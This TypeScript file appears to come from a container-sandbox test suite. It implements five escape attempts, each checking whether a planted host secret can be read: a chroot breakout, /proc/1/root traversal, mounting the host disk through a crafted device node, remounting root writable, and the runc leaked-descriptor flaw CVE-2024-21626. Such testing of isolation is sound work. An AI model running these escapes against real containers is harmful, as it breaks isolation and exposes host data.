import { closeSync, existsSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import {
  AT_FDCWD,
  MNT_DETACH,
  MS_BIND,
  MS_RDONLY,
  MS_REMOUNT,
  O_CREAT,
  O_DIRECTORY,
  O_RDONLY,
  O_WRONLY,
  S_IFBLK,
} from '../../../kernel/syscalls/constants.ts'
import { now } from '../../../kernel/syscalls/now.ts'
import { descriptors } from '../../../kernel/process/procfs.ts'
import type { Tape } from '../../../kernel/tape/tape.ts'
import { type Attack, cannotTell, gotThrough, stopped } from '../attack.ts'
import { printedCall, telling } from '../printed-call.ts'
import { victim } from '../victim.ts'

const STEPS_UP = 32

/** Records the reading of a file that holds the token. Call the result afterwards: it returns whether the token was read. */
function readToken(tape: Tape, path: string, token: string): () => boolean {
  const buffer = new Uint8Array(token.length)
  tape.attempt.read(tape.attempt.openat(AT_FDCWD, path, O_RDONLY, 0), buffer, buffer.length)
  return () => Buffer.from(buffer).toString() === token
}

export const chroot: Attack = {
  id: 'chroot',
  title: 'leave by chroot',
  tries:
    'It makes a second jail deeper inside, enters that by `chroot` without going there, walks up with `..`, and reads a secret file of the host.',
  async act(target) {
    const { secret, token } = target.host
    let read = () => false
    const { calls, box } = await target.make(tape => {
      tape.attempt.chdir(target.scratch)
      tape.attempt.mkdirat(AT_FDCWD, 'breakout', 0o700)
      tape.attempt.chroot('breakout')
      for (let i = 0; i < STEPS_UP; i++) tape.attempt.chdir('..')
      tape.attempt.chroot('.')
      read = readToken(tape, secret, token)
    })
    await box.end()
    const what = `${printedCall(telling(calls, 'chroot'))}, then ${printedCall(telling(calls, 'openat'))}`
    return read() ? gotThrough(`it has read the host's secret: ${what}`) : stopped(what)
  },
}

export const procRoot: Attack = {
  id: 'proc-root',
  title: 'read through /proc/1/root',
  tries:
    'Each process has a link `root` in /proc, which leads to where its paths begin. It follows that of process 1, and of another process of the host, to the secret file.',
  async act(target) {
    const { secret, token } = target.host
    await using other = await victim()
    const reads: (() => boolean)[] = []
    const { calls, box } = await target.make(tape => {
      for (const pid of [1, other.pid]) reads.push(readToken(tape, `/proc/${pid}/root${secret}`, token))
    })
    await box.end()
    const what = calls.filter(({ call }) => call === 'openat').map(printedCall)
    return reads.some(read => read())
      ? gotThrough(`it has read the host's secret: ${what[0]}`)
      : stopped(what.join(', '))
  },
}

export const disk: Attack = {
  id: 'disk',
  title: "mount the host's disk",
  tries:
    'It makes a device node with the numbers of a disk of the host, mounts the file system on that disk, and reads in it. (The disk is a file of ours behind a loop device.)',
  async act(target) {
    const { host, scratch, number } = target
    const none = typeof host.disk === 'string' ? host.disk : undefined
    // where even the host's root has no disk, the kernel's answer to the attempt can still be shown
    if (none && !host.rootless && target.seesProcesses) return cannotTell(none)
    const { path, device } =
      typeof host.disk === 'string' ? { path: '/dev/loop0', device: 7 << 8 } : host.disk
    const [node, mountPoint] = [join(scratch, `disk-${number}`), join(scratch, `mnt-${number}`)]
    let read = () => false
    const { calls, box } = await target.make(tape => {
      tape.attempt.mknodat(AT_FDCWD, node, S_IFBLK | 0o600, device)
      tape.attempt.mkdirat(AT_FDCWD, mountPoint, 0o700)
      for (const source of [node, path]) tape.attempt.mount(source, mountPoint, 'ext4', MS_RDONLY, null)
      read = readToken(tape, join(mountPoint, 'secret'), host.token)
      for (let i = 0; i < 2; i++) tape.attempt.umount2(mountPoint, MNT_DETACH)
    })
    await box.end()
    if (read())
      return gotThrough(
        `it has read the host's disk: ${calls.filter(c => c.call === 'mount').map(printedCall)[0]}`,
      )
    return stopped([telling(calls, 'mknodat'), telling(calls, 'mount')].map(printedCall).join(', '))
  },
}

export const image: Attack = {
  id: 'image',
  title: 'write to the shared image',
  tries:
    'It remounts its root read-write, where it is read-only, and makes a file in it. The host then looks whether the file is in the image, which all containers share.',
  async act(target) {
    const { host, seesHost } = target
    const name = `etc/escaped-${target.number}`
    const onHost = join(host.image, name)
    const inside = seesHost ? onHost : `/${name}`
    const { calls, box } = await target.make(tape => {
      if (!seesHost) tape.attempt.mount(null, '/', null, MS_BIND | MS_REMOUNT, null)
      tape.attempt.openat(AT_FDCWD, inside, O_CREAT | O_WRONLY, 0o600)
    })
    await box.end()
    const there = existsSync(onHost)
    rmSync(onHost, { force: true })
    const what = printedCall(telling(calls, 'openat'))
    if (there) return gotThrough(`${what}; the host finds ${name} in the image`)
    return stopped(`${what}; the host finds no ${name} in the image`)
  },
}

export const descriptor: Attack = {
  id: 'descriptor',
  title: 'use a leaked descriptor',
  tries:
    'The process that starts the container has a directory of the host open, and forgot to mark it close-on-exec, as runc once had (CVE-2024-21626). The program looks for the secret file behind each of its descriptors.',
  async act(target) {
    const { secret, token } = target.host
    const leak = now.openat(AT_FDCWD, join(secret, '..'), O_RDONLY | O_DIRECTORY, 0)
    try {
      const box = await target.start()
      const { output } = await box.shell.run('cat /proc/self/fd/*/secret')
      const open = Object.entries(descriptors(box.pid))
      await box.end()
      const all = `/proc/${box.pid}/fd: ${open.map(([fd, path]) => `${fd} ${path.replace(/:.*/, '')}`).join(', ')}`
      return output.includes(token) ? gotThrough(`it has read the host's secret. ${all}`) : stopped(all)
    } finally {
      closeSync(leak)
    }
  },
}
